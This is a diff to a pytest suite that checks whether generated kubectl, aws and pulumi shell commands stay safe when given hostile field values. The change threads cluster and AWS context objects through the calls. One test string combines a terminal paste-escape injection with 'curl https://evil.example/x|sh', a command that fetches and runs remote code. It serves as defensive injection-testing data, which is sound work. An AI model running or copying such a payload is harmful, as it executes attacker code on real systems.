@@ -5,6 +5,7 @@ import json
 import shlex
 import subprocess
 from collections.abc import Callable, Iterator
+from functools import partial
 from typing import Any
 
 import pytest
@@ -18,6 +19,8 @@ HOSTILE = (
 )
 UNPASTABLE = ("a\nb", "a\x1b[201~\x03\ncurl https://evil.example/x|sh\n", "a\u202eb", "a\ud800", "a\r", "##[error]a")
 PLAIN = "one-word"
+CLUSTER, AWS = commands.ClusterPlace("blue", "/home/me/blue"), commands.AwsPlace("data", "eu-west-1")
+PLACES_OF = {commands.ClusterPlace: CLUSTER, commands.AwsPlace: AWS}
 
 
 def with_one(function: Callable[..., str], names: list[str], field: str) -> Callable[[str], str]:
@@ -28,21 +31,40 @@ def with_one(function: Callable[..., str], names: list[str], field: str) -> Call
 def of_templates() -> Iterator[tuple[str, Callable[[str], str]]]:
     for name, function in vars(commands).items():
         given = inspect.getclosurevars(function).nonlocals if inspect.isfunction(function) else {}
-        if "template" in given:
-            yield from ((f"{name} {field}", with_one(function, given["names"], field)) for field in given["names"])
+        inner = inspect.getclosurevars(given["command"]).nonlocals if "command" in given else given
+        if "template" in inner:
+            bound = partial(function, PLACES_OF[function.__annotations__["place"]]) if "command" in given else function
+            yield from ((f"{name} {field}", with_one(bound, inner["names"], field)) for field in inner["names"])
+
+
+def of_places() -> Iterator[tuple[str, Callable[[str], str]]]:
+    for field in CLUSTER._fields:
+        yield (
+            f"kubectl {field}",
+            lambda value, field=field: commands.delete_pod(CLUSTER._replace(**{field: value}), "web-0", "team-a"),
+        )
+        yield (
+            f"at {field}",
+            lambda value, field=field: commands.at_place("kubectl get pods", CLUSTER._replace(**{field: value})),
+        )
+    for field in AWS._fields:
+        yield f"aws {field}", lambda value, field=field: commands.create_addon(AWS._replace(**{field: value}), "a", "b")
 
 
 # A field of each template, and what makes a field of several values.
 CALLS: dict[str, Callable[[str], str]] = {
     **dict(of_templates()),
-    "create_provider": lambda value: commands.create_provider(value, ["sts.amazonaws.com", "ci"]),
-    "associate_provider": lambda value: commands.associate_provider("prod", ISSUER, [value]),
-    "clear_association": lambda value: commands.clear_association("prod", value, "eu-west-1", ["policy"]),
-    "remove_annotations": lambda value: commands.remove_annotations("team-a", "app", value, "a/b"),
-    "annotate": lambda value: commands.annotate("team-a", "app", "a/b", value),
-    "annotate and remove": lambda value: commands.annotate("team-a", "app", "a/b", "c", removed=[value]),
-    "up_with_service_account": lambda value: commands.up_with_service_account("dev", value, "app", created=False),
-    "up_with_annotations": lambda value: commands.up_with_annotations(value, "team-a", "app", ["a"]),
+    **dict(of_places()),
+    "create_provider": lambda value: commands.create_provider(AWS, value, ["sts.amazonaws.com", "ci"]),
+    "associate_provider": lambda value: commands.associate_provider(AWS, "prod", ISSUER, [value]),
+    "clear_association": lambda value: commands.clear_association(AWS, "prod", value, ["policy"]),
+    "remove_annotations": lambda value: commands.remove_annotations(CLUSTER, "team-a", "app", value, "a/b"),
+    "annotate": lambda value: commands.annotate(CLUSTER, "team-a", "app", "a/b", value),
+    "annotate and remove": lambda value: commands.annotate(CLUSTER, "team-a", "app", "a/b", "c", removed=[value]),
+    "up_with_service_account": lambda value: commands.up_with_service_account(
+        CLUSTER, "dev", value, "app", created=False
+    ),
+    "up_with_annotations": lambda value: commands.up_with_annotations(CLUSTER, value, "team-a", "app", ["a"]),
     "check": commands.check,
 }
 
@@ -117,10 +139,21 @@ def test_the_aws_cli_sends_a_value_as_it_is(name: str) -> None:
 
 @pytest.mark.parametrize("value", HOSTILE)
 def test_a_shell_runs_nothing_of_a_value(value: str) -> None:
-    text = commands.up_with_service_account(value, value, value, False)
+    text = commands.up_with_service_account(CLUSTER, value, value, value, False)
     shown = 'pulumi() { printf "<%s>" pulumi "$@"; }; kubectl() { printf "<%s>" kubectl "$@"; }\n'
     answer = subprocess.run(["sh", "-c", shown + text], capture_output=True, text=True, check=True, timeout=20)
 
-    made = ["kubectl", "create", "serviceaccount", value, "-n", value]
+    made = [
+        "kubectl",
+        "create",
+        "serviceaccount",
+        value,
+        "-n",
+        value,
+        "--context",
+        "blue",
+        "--kubeconfig",
+        "/home/me/blue",
+    ]
     assert answer.stdout == "".join(f"<{word}>" for word in [*made, "pulumi", "up", "--refresh", "--stack", value])
     assert answer.stderr == ""
